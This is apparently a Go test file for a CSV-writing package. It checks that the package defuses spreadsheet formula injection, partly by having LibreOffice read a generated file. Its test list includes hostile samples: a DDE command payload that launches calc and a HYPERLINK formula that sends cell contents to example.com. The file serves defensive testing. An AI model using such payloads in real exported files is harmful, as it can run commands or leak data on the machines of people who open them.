package csvtext_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"flag"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"regulars/shared/csvtext"
)

func TestAppendRow(t *testing.T) {
	tests := []struct{ name, text, want string }{
		{"plain", "Ann", "Ann"},
		{"empty", "", ""},
		{"comma", "a,b", `"a,b"`},
		{"semicolon", "a;b", `"a;b"`},
		{"tab", "a\tb", "\"a\tb\""},
		{"line feed", "a\nb", "\"a\nb\""},
		{"carriage return", "a\rb", "\"a\rb\""},
		{"quote", `a "b"`, `"a ""b"""`},
		{"blank at the front", " a", `" a"`},
		{"end of data of a database", `\.`, `"\."`},
		{"equals", "=1+1", "'=1+1"},
		{"plus, which a phone has", "+84909700009", "'+84909700009"},
		{"hyphen", "-1", "'-1"},
		{"at", "@SUM(A1)", "'@SUM(A1)"},
		{"full-width equals", "\uff1d1", "'\uff1d1"},
		{"full-width plus", "\uff0b1", "'\uff0b1"},
		{"full-width hyphen", "\uff0d1", "'\uff0d1"},
		{"full-width at", "\uff20A", "'\uff20A"},
		{"not at the front", "a=1", "a=1"},
		{"after a line feed", "\n=1", "\"\n'=1\""},
		{"after a line feed in the text", "a\n=1", "\"a\n'=1\""},
		{"after a carriage return", "\r=1", "\"\r'=1\""},
		{"after a tab", "a\t@x", "\"a\t'@x\""},
		{"after a comma", "a,-1,b", `"a,'-1,b"`},
		{"after a semicolon", "a;=1;=2", `"a;'=1;'=2"`},
		{"after a semicolon, full-width", "a;\uff1d1", "\"a;'\uff1d1\""},
		{"an apostrophe before it", "'=1", "''=1"},
		{"apostrophes before it", "''=1", "'''=1"},
		{"an apostrophe before nothing", "'tis", "'tis"},
		{"not UTF-8", "\xff=", "\xff="},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got, want := string(csvtext.AppendRow(nil, csvtext.Text(tt.text), csvtext.Int(-5))), tt.want+",-5\n"; got != want {
				t.Errorf("row = %q, want %q", got, want)
			}
		})
	}
	if got := string(csvtext.AppendRow([]byte("a\n"), csvtext.Text(""))); got != "a\n\"\"\n" {
		t.Errorf("a row of one empty cell after another row = %q, want it quoted", got)
	}
}

// Files of other writers are read as well.
func TestRead(t *testing.T) {
	file := "phone;note\r\n'+84909700009;'tis\n+84909700009;\"=1\n'=2\"\n\"'=1\"\n"
	want := [][]string{{"phone", "note"}, {"+84909700009", "'tis"}, {"+84909700009", "=1\n=2"}, {"=1"}}
	if diff := cmp.Diff(want, readAll(t, []byte(file), ';')); diff != "" {
		t.Errorf("rows (-want +got):\n%s", diff)
	}
	var wrong *csv.ParseError
	if _, err := csvtext.NewReader(strings.NewReader("a,\"b"), ',').Read(); !errors.As(err, &wrong) {
		t.Errorf("an open quote: error = %v, want a parse error", err)
	}
}

func readAll(t interface{ Fatalf(string, ...any) }, file []byte, separator rune) [][]string {
	var rows [][]string
	for reader := csvtext.NewReader(bytes.NewReader(file), separator); ; {
		row, err := reader.Read()
		if err == io.EOF {
			return rows
		}
		if err != nil {
			t.Fatalf("reading %q: %v", file, err)
		}
		rows = append(rows, row)
	}
}

// What is written is read as the same, is one row as any reader sees it, and
// nowhere begins like a formula.
func TestRoundTrip(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		texts := rapid.SliceOfN(rapid.StringOf(rapid.SampledFrom([]rune("=+-@\uff1d\uff0b\uff0d\uff20'\",;\t\n\r a1\\."))), 1, 4).Draw(t, "texts")
		row := make([]csvtext.Cell, len(texts))
		for i, text := range texts {
			row[i] = csvtext.Text(text)
		}
		file := csvtext.AppendRow(csvtext.AppendRow(nil, row...), row...)
		want := slices.Clone(texts)
		for i := range want {
			want[i] = strings.ReplaceAll(want[i], "\r\n", "\n")
		}
		if diff := cmp.Diff([][]string{want, want}, readAll(t, file, ',')); diff != "" {
			t.Fatalf("%q is read as (-want +got):\n%s", file, diff)
		}
		for _, cell := range row {
			for _, piece := range strings.FieldsFunc(string(cell), func(r rune) bool { return strings.ContainsRune(",;\t\n\r", r) }) {
				if r := []rune(piece)[0]; strings.ContainsRune("=+-@\uff1d\uff0b\uff0d\uff20", r) {
					t.Fatalf("cell %q has a piece that begins with %q", cell, r)
				}
			}
		}
	})
}

var soffice = flag.String("soffice", "", "the program of LibreOffice, which is to read testdata/hostile.csv again")

// hostile are texts that are formulas, or look like numbers, to a spreadsheet.
var hostile = []string{
	"=1+1", "+84909700009", "-1", "@SUM(1;2)", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "\n=1+1", "\r=1+1", "\t=1+1", "x\n=1+1", "x;=1+1", "x,=1+1", "x\t=1+1", "x;\uff1d1+1", ";=1+1",
	"'=1+1", "=HYPERLINK(\"http://example.com/?\"&A1;\"x\")", "=cmd|' /C calc'!A0", "\"=1+1", "x\";=1+1;\"", "''+1", " =1+1", "Ann", "",
}

// TestSpreadsheet checks what LibreOffice makes of a file. Its answers are kept
// in testdata, one for each separator it may be told; go test -soffice
// /usr/bin/soffice asks it again (Debian: apt-get install
// libreoffice-calc-nogui). The file that it read is kept too, so a change of
// the writer fails until it was asked again.
func TestSpreadsheet(t *testing.T) {
	var file []byte
	for i, text := range hostile {
		file = csvtext.AppendRow(file, csvtext.Int(-int64(i)), csvtext.Text(text), csvtext.Text("end"))
	}
	path := filepath.Join("testdata", "hostile.csv")
	if *soffice != "" {
		if err := os.WriteFile(path, file, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if read, err := os.ReadFile(path); err != nil || !bytes.Equal(read, file) {
		t.Fatalf("%s is not what is written now (error %v); let LibreOffice read it again with -soffice", path, err)
	}
	for name, separator := range map[string]string{"comma": "44", "semicolon": "59", "tab": "9"} {
		t.Run(name, func(t *testing.T) {
			answer := filepath.Join("testdata", "libreoffice-"+name+".json")
			if *soffice != "" {
				writeJSON(t, answer, askLibreOffice(t, path, separator))
			}
			var sheet [][]cell
			text, err := os.ReadFile(answer)
			if err == nil {
				err = json.Unmarshal(text, &sheet)
			}
			if err != nil {
				t.Fatal(err)
			}
			checkSheet(t, sheet, name == "comma")
		})
	}
}

// checkSheet: no cell is a formula, whatever the separator; with the right one
// every text is the text that was written, and every number a number.
func checkSheet(t *testing.T, sheet [][]cell, exact bool) {
	t.Helper()
	if len(sheet) < len(hostile) {
		t.Errorf("%d rows, want at least %d", len(sheet), len(hostile))
	}
	for i, row := range sheet {
		for _, c := range row {
			if c.Formula != "" {
				t.Errorf("row %d: %q is a formula", i, c.Text)
			}
		}
		if !exact {
			continue
		}
		if len(row) != 3 || row[0].Type != "float" || row[1].Type == "float" || row[2].Text != "end" {
			t.Errorf("row %d = %+v, want a number and two texts", i, row)
			continue
		}
		want := strings.ReplaceAll(string(csvtext.Text(hostile[i])), "\r", "\n")
		if got := row[1].Text; got != want {
			t.Errorf("row %d is %q to LibreOffice, want %q", i, got, want)
		}
	}
}

// A cell is what LibreOffice knows of one.
type cell struct {
	Type    string `json:"type"`
	Formula string `json:"formula,omitempty"`
	Text    string `json:"text"`
}

func askLibreOffice(t *testing.T, path, separator string) [][]cell {
	t.Helper()
	dir := t.TempDir()
	command := exec.Command(*soffice, "--headless", "-env:UserInstallation=file://"+dir, "--convert-to", "fods", "--outdir", dir, "--infilter=CSV:"+separator+",34,76,1,,0,false,true,false", path)
	if out, err := command.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	text, err := os.ReadFile(filepath.Join(dir, "hostile.fods"))
	if err != nil {
		t.Fatal(err)
	}
	var sheet struct {
		Rows []struct {
			Cells []struct {
				Type       string      `xml:"value-type,attr"`
				Formula    string      `xml:"formula,attr"`
				Paragraphs []paragraph `xml:"p"`
			} `xml:"table-cell"`
		} `xml:"body>spreadsheet>table>table-row"`
	}
	if err := xml.Unmarshal(text, &sheet); err != nil {
		t.Fatal(err)
	}
	var rows [][]cell
	for _, row := range sheet.Rows {
		var cells []cell
		for _, c := range row.Cells {
			var lines []string
			for _, p := range c.Paragraphs {
				lines = append(lines, p.text)
			}
			cells = append(cells, cell{c.Type, c.Formula, strings.Join(lines, "\n")})
		}
		rows = append(rows, cells)
	}
	return rows
}

// A paragraph is the text of <text:p>, in which blanks and tabs are elements.
type paragraph struct{ text string }

func (p *paragraph) UnmarshalXML(d *xml.Decoder, start xml.StartElement) error {
	for depth := 1; depth > 0; {
		token, err := d.Token()
		if err != nil {
			return err
		}
		switch token := token.(type) {
		case xml.StartElement:
			depth++
			p.text += map[string]string{"s": " ", "tab": "\t", "line-break": "\n"}[token.Name.Local]
		case xml.EndElement:
			depth--
		case xml.CharData:
			p.text += string(token)
		}
	}
	return nil
}

func writeJSON(t *testing.T, path string, sheet [][]cell) {
	t.Helper()
	text, err := json.MarshalIndent(sheet, "", " ")
	if err == nil {
		err = os.WriteFile(path, append(text, '\n'), 0o644)
	}
	if err != nil {
		t.Fatal(err)
	}
}
